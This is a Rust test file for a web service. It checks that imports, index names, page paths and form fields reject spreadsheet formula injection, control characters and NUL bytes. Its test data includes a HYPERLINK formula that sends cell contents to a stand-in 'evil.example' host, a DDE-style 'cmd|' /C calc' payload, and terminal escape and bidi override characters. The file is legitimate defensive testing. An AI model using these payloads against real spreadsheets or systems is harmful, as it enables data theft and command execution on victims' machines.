//! Text a spreadsheet would run, control characters and NUL, wherever text comes in:
//! an imported specification is a row error saying why (422 / 40002), an index name
//! edited in the back office is 40001, and a page's path or form field holding NUL or
//! another control character is a 400 page with the request id, never a 500.

use serde_json::json;

use super::still_serving;
use crate::helpers::site::PageReply;
use crate::helpers::PASSWORD;
use crate::imports;

const HEAD: &str = "trade_date,index_code,specification,weight,price\n";

#[actix_web::test]
async fn imported_specifications_a_spreadsheet_would_run_or_that_hold_controls_are_row_errors() {
    let app = imports::spawn().await;
    let admin = app.admin().await;
    let names = [
        (
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
            "starts with '='",
        ),
        ("@SUM(1+1)", "starts with '@'"),
        ("+1+1", "starts with '+'"),
        ("-2+3+cmd|' /C calc'!A0", "starts with '-'"),
        ("B200\u{1B}[31m", "U+001B"),
        ("B200\u{7}", "U+0007"),
        ("B200\u{8}", "U+0008"),
        ("B200\u{202E}", "U+202E"),
        ("B200\r\nx", "U+000D"),
        ("B200\u{85}", "U+0085"),
    ];
    // Ten rows of one day and index whose weights sum to 1: the names are the only
    // problems.
    let rows: String = names
        .iter()
        .map(|(name, _)| {
            format!(
                "20261102,GPU_Index,\"{}\",0.1,100\n",
                name.replace('"', "\"\"")
            )
        })
        .collect();
    let reply = app
        .import_file(&admin, "hostile.csv", format!("{HEAD}{rows}").into_bytes())
        .await;
    reply.assert_error(422, 40002);
    let errors = reply.body["errors"].as_array().expect("errors");
    assert_eq!(errors.len(), names.len(), "{}", reply.body);
    for ((name, says), error) in names.iter().zip(errors) {
        assert_eq!(error["column"], "specification", "{name:?}: {error}");
        let reason = error["reason"].as_str().unwrap();
        assert!(
            reason.starts_with("the specification ") && reason.contains(says),
            "{name:?}: {reason}"
        );
    }
    still_serving(&app).await;
}

#[actix_web::test]
async fn an_index_name_a_spreadsheet_would_run_or_with_controls_is_refused() {
    let app = crate::helpers::spawn_with_fixture().await;
    let admin = app.admin().await;
    for name in [
        "=HYPERLINK(\"http://x\",\"y\")",
        "@SUM(1)",
        "+1",
        "-1+2",
        "GPU\u{1B}[2J",
        "GPU\u{202E}",
    ] {
        let reply = app
            .patch_index(&admin, "GPU_Index", json!({"index_name": name}))
            .await;
        reply.assert_error(400, 40001);
        let message = reply.body["message"].as_str().unwrap();
        assert!(message.starts_with("field 'index_name' "), "{message}");
    }
    let reply = app
        .patch_index(&admin, "GPU_Index", json!({"index_name": "GPU index - 8x"}))
        .await;
    assert_eq!(reply.code(), 0, "{}", reply.body);
}

/// A 400 page that names its request id, as every refusal does.
fn assert_client_error(page: &PageReply, what: &str) {
    assert_eq!(page.status, 400, "{what}: {}", page.html);
    let id = page.header("x-request-id").expect("X-Request-Id");
    page.assert_has(id);
}

#[actix_web::test]
async fn nul_and_control_characters_in_page_paths_and_forms_are_client_errors() {
    let app = crate::helpers::spawn_with_fixture().await;
    let admin = app.admin().await;
    app.user(&admin, "pat", "pro").await;
    let pat = app.form_login("pat", PASSWORD).await;
    let root = app.form_login("root", PASSWORD).await;
    let pat_token = app.page_with(&pat.cookies, "/account/keys").await.csrf();
    let root_token = app.page_with(&root.cookies, "/admin/users").await.csrf();

    for segment in ["%00", "a%00b", "%1B%5B2J", "%07"] {
        for action in ["rotate", "rename", "delete"] {
            let path = format!("/account/keys/{segment}/{action}");
            let page = app.submit(&pat, &path, &pat_token, &[("name", "x")]).await;
            assert_client_error(&page, &path);
        }
        for path in [
            format!("/admin/keys/{segment}"),
            format!("/admin/users/{segment}"),
            format!("/admin/imports/{segment}"),
            format!("/indexes/{segment}"),
        ] {
            assert_client_error(&app.page_with(&root.cookies, &path).await, &path);
        }
        for path in [
            format!("/admin/keys/{segment}"),
            format!("/admin/users/{segment}"),
            format!("/admin/indexes/{segment}"),
            format!("/admin/tiers/{segment}"),
        ] {
            let page = app
                .submit(&root, &path, &root_token, &[("name", "x")])
                .await;
            assert_client_error(&page, &path);
        }
    }
    // A form field holding NUL or ESC; a text area's line breaks are still taken.
    for value in ["a\0b", "a\u{1B}b", "a\u{7F}"] {
        let page = app
            .post_key_form(&pat, &pat_token, &[("name", value)])
            .await;
        assert_client_error(&page, &format!("{value:?}"));
    }
    let page = app
        .post_key_form(&pat, &pat_token, &[("name", "two\r\nlines")])
        .await;
    // The form took it; the key name's own rule may refuse it, but as a name.
    assert_ne!(page.status, 500, "{}", page.html);
    page.assert_lacks("A field holds a control character");
    still_serving(&app).await;
}
